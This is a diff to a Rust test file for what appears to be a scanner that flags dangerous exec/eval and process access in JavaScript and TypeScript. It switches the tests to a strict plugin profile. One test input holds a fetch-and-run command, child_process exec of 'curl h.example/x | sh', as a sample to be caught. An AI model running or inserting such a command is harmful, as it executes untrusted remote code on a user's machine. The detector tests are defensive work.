@@ -35,7 +35,7 @@ const BODIES: &[&str] = &[
 fn a_body_behind_any_type_is_read() {
     for body in BODIES {
         for path in ["a.ts", "a.mts"] {
-            let found = |call: &str| check(Profile::General, path, &body.replace('@', call));
+            let found = |call: &str| check(Profile::StrictPlugin, path, &body.replace('@', call));
             let seen = found("eval(x)");
             assert!(seen.iter().any(|line| line.contains("danger exec/eval")), "{body}: {seen:?}");
             let seen = found("const r = require; r('child_process').exec('curl h.example/x | sh')");
@@ -80,7 +80,7 @@ const WAYS: &[(&str, &str)] = &[
 #[test]
 fn what_fields_patterns_and_parameters_are_given_is_followed() {
     for (path, way) in WAYS {
-        let found = |value: &str| check(Profile::General, path, &way.replace('@', value));
+        let found = |value: &str| check(Profile::StrictPlugin, path, &way.replace('@', value));
         for value in ["process", "globalThis.process"] {
             let seen = found(value);
             assert!(
@@ -110,7 +110,7 @@ fn what_another_field_or_parameter_is_given_is_not_taken_for_it() {
         ("a.js", "const f = p => p; f.apply(null, [process]); f(ui).binding('fs')"),
         ("a.js", "setTimeout.apply(null, [function () { return 'x' }, 1])"),
     ] {
-        let found = check(Profile::General, path, text);
+        let found = check(Profile::StrictPlugin, path, text);
         assert!(!found.iter().any(|line| line.contains("danger")), "{text}: {found:?}");
     }
 }
@@ -125,13 +125,13 @@ fn a_guess_of_a_body_hides_no_call_in_a_regex() {
         ("a.ts", "declare function f(): number\nx = a > {} / 1; eval(y) / 1"),
         ("a.js", "var r = eval, yield = 4;\nfunction f(r) { return yield / 2 } /* / */\nr(y);"),
     ] {
-        let found = check(Profile::General, path, text);
+        let found = check(Profile::StrictPlugin, path, text);
         assert!(found.iter().any(|line| line.ends_with("danger exec/eval")), "{text}: {found:?}");
     }
     for (path, text) in
         [("a.js", "var x = function let() {} / 1; f(y) / 1;"), ("a.ts", "void\n{} / 1; f(y) / 1")]
     {
-        let found = check(Profile::General, path, text);
+        let found = check(Profile::StrictPlugin, path, text);
         assert!(!found.iter().any(|line| line.contains("danger")), "{text}: {found:?}");
     }
 }
